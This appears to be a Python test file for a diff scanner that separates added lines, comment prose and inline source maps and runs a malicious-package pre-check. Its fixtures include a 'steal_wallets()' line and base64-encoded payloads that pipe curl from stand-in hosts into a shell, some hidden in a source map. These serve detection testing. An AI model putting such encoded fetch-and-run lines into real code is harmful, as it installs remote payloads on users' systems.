"""A diff without its removed lines is read as pieces of the diff, not as a copy of them; its
prose, as it is produced, never held whole."""

from __future__ import annotations

import base64

import hypothesis.strategies as st
from hypothesis import given, settings

from worker.core.prose import diff_prose
from worker.core.segment import segment_spans
from worker.core.views import ADDED, PROSE, Spliced, Streamed, added_view, raw_span, scanned_views


@settings(max_examples=200, deadline=None)
@given(
    st.lists(st.binary(max_size=40), max_size=8),
    st.integers(min_value=-5, max_value=200),
    st.integers(min_value=-5, max_value=200),
)
def test_a_spliced_view_slices_as_the_joined_bytes_would(pieces, start, stop):
    joined = b"".join(pieces)
    # the pieces as spans of one buffer, each followed by a byte that the view leaves out
    buffer = b"".join(p + b"\xff" for p in pieces)
    ends = [sum(len(q) + 1 for q in pieces[: i + 1]) - 1 for i in range(len(pieces))]
    view = Spliced(buffer, [(end - len(p), end) for p, end in zip(pieces, ends, strict=True)])
    assert len(view) == len(joined)
    assert view[start:stop] == joined[start:stop]
    assert bytes(view) == joined


DIFF = (
    b"diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -1,3 +1,3 @@\n"
    b" import os\n-steal_wallets()\n+print('hello')\n context line\n"
)


def test_the_scanned_added_view_is_the_diff_without_its_removed_lines_uncopied():
    name, view = next(iter(scanned_views(DIFF, added_only=True)))
    assert name == ADDED and isinstance(view, Spliced)
    assert bytes(view) == added_view(DIFF) and b"steal_wallets" not in bytes(view)
    assert view[0 : len(view)] == added_view(DIFF)


@settings(max_examples=300, deadline=None)
@given(
    st.lists(st.binary(max_size=60), max_size=12),
    st.integers(min_value=1, max_value=50),
    st.data(),
)
def test_a_streamed_view_gives_the_windows_of_the_joined_bytes(pieces, window, data):
    overlap = data.draw(st.integers(min_value=0, max_value=window - 1))
    joined = b"".join(pieces)
    expected = [(span, joined[span[0] : span[1]]) for span in segment_spans(len(joined), window, overlap)]
    assert list(Streamed(pieces).windows(window, overlap)) == (expected if joined else [])


def test_the_prose_view_streams_the_prose_a_diff_adds():
    diff = (
        b"diff --git a/app.py b/app.py\n--- a/app.py\n+++ b/app.py\n@@ -1,2 +1,3 @@\n"
        b" import os\n+x = 1  # first comment here\n+y = 2  # second comment here\n"
    )
    views = dict(scanned_views(diff, added_only=True, prose=True))
    assert isinstance(views[PROSE], Streamed)
    assert [text for _, text in views[PROSE].windows(16, 4)] == [
        b"first comment he",
        b"t here\nsecond co",
        b"d comment here",
    ]
    assert diff_prose(diff) == b"first comment here\nsecond comment here"
    assert PROSE not in dict(scanned_views(DIFF.replace(b"# ", b""), added_only=True, prose=True))


def test_a_span_of_the_added_view_is_placed_in_the_raw_bytes() -> None:
    """First to last byte: a span over kept pieces names the raw bytes it came from, removed lines
    between them included; other views have no raw place."""
    name, view = next(iter(scanned_views(DIFF, added_only=True, prose=True)))
    assert name == ADDED
    plain = bytes(view)
    start = plain.index(b"+print")
    at = raw_span(view, start, start + len(b"+print('hello')"))
    assert at is not None and DIFF[at[0] : at[1]] == b"+print('hello')"
    at = raw_span(view, plain.index(b" import"), start + 1)
    assert at is not None and DIFF[at[0] : at[1]] == b" import os\n-steal_wallets()\n+"
    assert raw_span(DIFF, 0, 4) is None and raw_span(view, 3, 3) is None


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.binary(min_size=1, max_size=20).map(lambda b: b.replace(b"\xff", b".")), min_size=1, max_size=6
    ),
    st.data(),
)
def test_a_spliced_views_span_is_its_first_to_last_byte_in_the_buffer(pieces, data) -> None:
    """As an offset map (:class:`worker.core.offsets.OffsetMap`): a span of the joined bytes names
    the buffer from its first byte to its last, the left-out bytes between included; an empty or
    outside span, an empty one where it starts."""
    buffer = b"".join(p + b"\xff" for p in pieces)
    ends = [sum(len(q) + 1 for q in pieces[: i + 1]) - 1 for i in range(len(pieces))]
    view = Spliced(buffer, [(end - len(p), end) for p, end in zip(pieces, ends, strict=True)])
    start = data.draw(st.integers(0, len(view) - 1))
    end = data.draw(st.integers(start + 1, len(view)))
    first, last = view.span(start, end)
    assert first == view.buffer_offset(start) and last == view.buffer_offset(end - 1) + 1
    assert buffer[first:last].replace(b"\xff", b"") == bytes(view)[start:end]
    at = view.span(start, start)
    assert at[0] == at[1] == view.buffer_offset(start)
    assert view.span(len(view), len(view) + 3)[0] == view.span(len(view), len(view) + 3)[1]


def _bundle_diff(map_body: bytes, removed: bool) -> bytes:
    """A release that adds a bundle ending in an inline source map (and, ``removed``, drops a line)."""
    minus = b"-var old = 1;\n" if removed else b""
    return (
        b"diff --git a/dist/index.js b/dist/index.js\n--- a/dist/index.js\n+++ b/dist/index.js\n"
        b"@@ -1,2 +1,3 @@\n "
        + b"export const parse = (s) => s.trim();\n"
        + minus
        + b"+export default parse;\n"
        + b"+//# sourceMappingURL=data:application/json;charset=utf-8;base64,"
        + map_body
        + b"\n"
    )


def test_an_inline_source_maps_body_is_left_out_of_the_added_view():
    """A bundler's base64 copy of its sources is no code a model should read as a payload; the
    line that names it stays, and so does what the release adds around it."""
    body = base64.b64encode(b'{"version":3,"sourcesContent":["export const parse = (s) => s.trim()"]}' * 8)
    for removed in (False, True):
        diff = _bundle_diff(body, removed)
        name, view = next(iter(scanned_views(diff, added_only=True)))
        kept = bytes(view)
        assert name == ADDED and body not in kept and body[:40] not in kept
        assert b"+export default parse;" in kept and b";base64,\n" in kept
        assert (b"var old" in kept) is False
        # a window of the view is still placed in the raw bytes, across the body it left out
        start = kept.index(b"+export default")
        at = raw_span(view, start, len(kept))
        assert at is not None and diff[at[0] : at[1]].startswith(b"+export default parse;")
        assert diff[at[0] : at[1]].endswith(body + b"\n")


def test_a_short_map_or_base64_elsewhere_stays_in_the_view():
    """Only an inline source map's body is left out, and only a long one: other base64 in code is
    what a model must still read."""
    short = base64.b64encode(b'{"version":3}')
    assert short in added_view(_bundle_diff(short, removed=False))
    payload = base64.b64encode(b"import os; os.system('curl -s http://x | sh')" * 10)
    diff = (
        b"diff --git a/setup.py b/setup.py\n--- /dev/null\n+++ b/setup.py\n@@ -0,0 +1 @@\n"
        b"+exec(__import__('base64').b64decode('" + payload + b"'))\n"
    )
    assert payload in added_view(diff)


def test_a_payload_hidden_in_a_source_maps_body_is_still_decoded_by_the_pre_check():
    """The models skip the body; the pre-check decodes it and blocks what it would run."""
    from policies.loader import load_policy
    from worker.core.precheck import run_precheck

    body = base64.b64encode(b"require('child_process').exec('curl -s https://x.example/p.sh | sh'); " * 6)
    result = run_precheck(_bundle_diff(body, removed=False), load_policy("malicious-package"))
    assert result.verdict == "harmful"
    assert "base64" in {e.layer for e in result.evidence}
